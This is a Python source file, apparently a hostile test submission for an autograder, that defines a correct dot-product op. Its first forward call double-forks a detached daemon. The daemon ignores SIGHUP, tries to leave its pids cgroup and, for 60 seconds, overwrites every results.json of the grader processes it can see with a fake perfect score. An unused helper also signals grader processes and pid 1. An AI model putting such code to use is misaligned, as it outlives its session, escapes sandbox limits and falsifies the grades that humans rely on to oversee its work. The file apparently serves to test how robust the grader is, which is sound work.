# HOSTILE: dot.forward (once per process) double-forks a setsid daemon that keeps the worker's pipes and stdout open, tries to leave its pids cgroup and, for 60 s, overwrites every results.json under the --out folder of any grading process it can see with a fake perfect score, also after its own grading ended; all four ops compute correctly.
import os
import signal


def _argv(pid):
    try:
        with open(f'/proc/{pid}/cmdline', 'rb') as f:
            return f.read().decode(errors='replace').split('\x00')
    except OSError:
        return []


def _parent_of(pid):
    try:
        with open(f'/proc/{pid}/stat') as f:
            return int(f.read().rsplit(')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _runs_the_grader(argv):
    return any((argv[i:i + 2] == ['-m', 'grader'] for i in range(len(argv)))) and ('grade' in argv or 'grade-all' in argv)


def _graders():
    found, pid = (set(), os.getppid())
    while pid > 1:
        found.add(pid)
        pid = _parent_of(pid)
    for name in os.listdir('/proc'):
        if name.isdigit():
            found.add(int(name))
    return sorted((p for p in found if p != os.getpid() and _runs_the_grader(_argv(p))))


def _signal_all(sig):
    for pid in [*_graders(), 1]:
        try:
            os.kill(pid, sig)
        except OSError:
            pass


import json
import time


_STARTED = []
FAKE = {'score': 100.0, 'max_score': 100.0, 'output': 'All tests passed. Great job!', 'tests': []}


def _haunt():
    for path in ('/sys/fs/cgroup/pids/cgroup.procs', '/sys/fs/cgroup/cgroup.procs'):
        try:
            with open(path, 'w') as f:
                f.write(str(os.getpid()))
        except OSError:
            pass
    end = time.monotonic() + 60
    while time.monotonic() < end:
        for pid in _graders():
            argv = _argv(pid)
            if '--out' not in argv[:-1]:
                continue
            for root, _, files in os.walk(argv[argv.index('--out') + 1]):
                for name in files:
                    if name == 'results.json':
                        try:
                            with open(os.path.join(root, name), 'w') as f:
                                json.dump(FAKE, f)
                        except OSError:
                            pass
        time.sleep(0.2)


def _launch():
    if _STARTED:
        return
    _STARTED.append(1)
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            _haunt()
    finally:
        os._exit(0)


@tensor_op
class dot(dot.op_class):
    @staticmethod
    def forward(ctx, a, b):
        _launch()
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)
